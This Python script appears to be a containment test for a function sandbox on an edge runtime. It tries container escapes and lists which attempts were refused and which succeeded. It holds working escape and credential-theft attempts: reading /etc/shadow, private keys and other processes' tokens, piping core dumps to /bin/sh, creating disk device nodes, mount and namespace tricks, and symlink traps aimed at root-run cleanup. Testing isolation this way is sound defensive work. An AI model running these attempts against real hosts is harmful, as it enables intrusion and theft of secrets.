# What a function tries that wants out of its container. It publishes one list of
# what was refused, and one of what was not.
import ctypes, errno, os, stat, struct, sys

libc = ctypes.CDLL(None, use_errno=True)
ROOT, CORE = os.environ["ROOT"], int(os.environ["CORE"])
OTHER, DISK = os.environ["OTHER"], int(os.environ["DISK"])
CONTAINED = os.environ["TAG"] != "control"


def call(name, *args):
    if getattr(libc, name)(*args) == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return name


def syscall(number, *args):
    if libc.syscall(number, *args) == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return number


def read(path):
    with open(path, "rb") as f:
        return f.read(64)


def write(path, text="x"):
    with open(path, "w") as f:
        f.write(text)
    return path


def find(folder, names, depth=6):
    found = []
    for path, folders, files in os.walk(folder):
        found += [os.path.join(path, f) for f in files if f in names]
        if path.count("/") > depth:
            folders[:] = []
    return found


def make_node(path, kind, device):
    os.mknod(path, kind | 0o666, device)
    return path


def strangers():
    # A container has few processes, with small numbers.
    return [pid for pid in os.listdir("/proc") if pid.isdigit() and int(pid) > 1000]


def others_environment():
    own = open("/proc/self/environ").read()
    found = []
    for pid in os.listdir("/proc"):
        try:
            text = open("/proc/%s/environ" % pid).read()
        except OSError:
            continue
        if "AWS_CONTAINER_AUTHORIZATION_TOKEN" in text and text != own:
            found.append(pid)
    return found


def setuid_in_package():
    return os.stat(os.path.join(os.environ["CODE"], "setuid")).st_mode & (stat.S_ISUID | stat.S_ISGID)


def become_root():
    # What it starts gains nothing by a file's setuid bit.
    text = open("/proc/self/status").read()
    return "" if "NoNewPrivs:\t1" in text else "privileges may be gained"


def core_dump_pipe():
    write("/proc/sys/kernel/core_pattern", "|/bin/sh")


FILES = {
    "another function's code": lambda: os.listdir(OTHER),
    "list the packages": lambda: os.listdir(ROOT + "/ggc/deployment/lambda"),
    "packages by hash": lambda: os.listdir(ROOT + "/ggc/deployment/.store"),
    "the core's key": lambda: [read(ROOT + "/certs/" + f) for f in os.listdir(ROOT + "/certs") if f.endswith(".key")],
    "the core's configuration": lambda: read(ROOT + "/config/config.json"),
    "the group": lambda: read(ROOT + "/ggc/deployment/group/group.json"),
    "the core's logs": lambda: os.listdir(ROOT + "/ggc/var/log"),
    "other containers' folders": lambda: os.listdir(ROOT + "/ggc/var/state/sandbox/containers"),
    "host's passwords": lambda: read("/etc/shadow"),
    "settings of Fescue's packages": lambda: read("/etc/fescue/server.env"),
    "a control plane's master key": lambda: read("/var/lib/fescue/master.key"),
    "host's /root": lambda: os.listdir("/root"),
    "host's processes": strangers,
    "tokens of others": others_environment,
    "signal the core": lambda: os.kill(CORE, 0) or "sent",
    "the core's files by /proc": lambda: os.listdir("/proc/%d/cwd/" % CORE),
}

POWER = {
    "the first process's root": lambda: os.listdir("/proc/1/root"),
    "the first process's memory": lambda: open("/proc/1/mem", "rb"),
    "the first process's environment": lambda: read("/proc/1/environ"),
    "the first process's descriptors": lambda: os.listdir("/proc/1/fd") and [os.readlink("/proc/1/fd/" + f) for f in os.listdir("/proc/1/fd")],
    "mount": lambda: call("mount", b"none", b"/tmp", b"tmpfs", 0, None),
    "mount the disk": lambda: call("mount", b"/dev/root", b"/tmp", b"ext4", 0, None),
    "mount a control group": lambda: call("mount", b"none", b"/tmp", b"cgroup", 0, b"memory"),
    "mount control groups": lambda: call("mount", b"none", b"/tmp", b"cgroup2", 0, None),
    "make what is read writable": lambda: call("mount", b"", b"/lambda", b"", 0x1020, None),
    "move its root": lambda: call("pivot_root", b"/tmp", b"/tmp") if hasattr(libc, "pivot_root") else call("chroot", b"/tmp"),
    "unmount": lambda: call("umount2", b"/root", 2),
    "unmount the mask of /proc": lambda: call("umount2", b"/proc/sys", 2),
    "a new mount namespace": lambda: call("unshare", 0x00020000),
    "a new user namespace": lambda: call("unshare", 0x10000000),
    "another's namespace": lambda: call("setns", os.open("/proc/1/ns/mnt", os.O_RDONLY), 0),
    "change root": lambda: call("chroot", b"/tmp"),
    "trace the first process": lambda: call("ptrace", 16, 1, None, None),
    "trace itself": lambda: call("ptrace", 0, 0, None, None),
    "read memory of another": lambda: call("process_vm_readv", 1, None, 0, None, 0, 0),
    "host name": lambda: call("sethostname", b"x", 1),
    "restart the machine": lambda: call("reboot", 0),
    "the clock": lambda: call("clock_settime", 0, struct.pack("qq", 0, 0)),
    "the kernel's log": lambda: call("klogctl", 3, ctypes.create_string_buffer(9), 9),
    "keys": lambda: syscall(250, 0, -3, 0) if os.uname().machine == "x86_64" else call("unshare", 0x10000000),
    "files by handle": lambda: call("open_by_handle_at", 0, None, 0),
    "make the disk's file": lambda: make_node("/tmp/disk", stat.S_IFBLK, DISK),
    "make it in /dev": lambda: make_node("/dev/disk", stat.S_IFBLK, DISK),
    "make it in /dev/shm": lambda: make_node("/dev/shm/disk", stat.S_IFBLK, DISK),
    "make the memory's file": lambda: make_node("/tmp/mem", stat.S_IFCHR, os.makedev(1, 1)),
    "device files": lambda: [f for f in os.listdir("/dev") if stat.S_ISBLK(os.lstat("/dev/" + f).st_mode)],
    "the kernel's memory": lambda: open("/dev/mem", "rb"),
    "/proc/kcore": lambda: read("/proc/kcore"),
    "core dumps to a program": core_dump_pipe,
    "programs that the kernel starts": lambda: write("/proc/sys/kernel/modprobe", "/tmp/x"),
    "system requests": lambda: write("/proc/sysrq-trigger", "h"),
    "files of control groups": lambda: find("/sys", ("release_agent", "notify_on_release", "cgroup.procs", "tasks")),
    "programs that /sys starts": lambda: write("/sys/kernel/uevent_helper", "/tmp/x"),
    "write to /sys": lambda: write("/sys/kernel/profiling", "0"),
    "its own code": lambda: write("/lambda/main.py"),
    "a new file in its code": lambda: write("/lambda/x"),
    "what all functions load": lambda: write("/runtime/x"),
    "setuid in its package": setuid_in_package,
    "become root": become_root,
}


def attempts():
    refused, escaped = 0, []
    for name, attempt in dict(FILES, **(POWER if CONTAINED else {})).items():
        try:
            got = attempt()
        except OSError:
            refused += 1
            continue
        if got:
            escaped.append("%s: %.80s" % (name, got))
        else:
            refused += 1
    return refused, escaped


def prepare_for_removal():
    # The core removes, as root, what the function leaves in its folders.
    for folder in ("/tmp", "/var/tmp", "/dev/shm"):
        os.symlink(ROOT + "/certs", folder + "/certs")
        os.mkdir(folder + "/deep")
        os.symlink("../../../../../../../../../.." + ROOT, folder + "/deep/root")
